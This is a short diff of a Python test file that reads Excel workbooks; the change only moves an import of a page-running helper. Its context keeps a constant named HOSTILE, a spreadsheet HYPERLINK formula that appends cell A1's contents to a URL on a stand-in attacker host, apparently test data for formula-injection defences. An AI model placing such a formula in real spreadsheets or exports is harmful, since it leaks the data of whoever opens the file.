@@ -14,7 +14,7 @@ import pytest
 from openpyxl import load_workbook
 
 from tests.pages.conftest import make_user
-from tests.pages.test_pages import run_page
+from tests.pages.helpers import run_page
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"세부 보기")'
 ADMIN = make_user("admin")
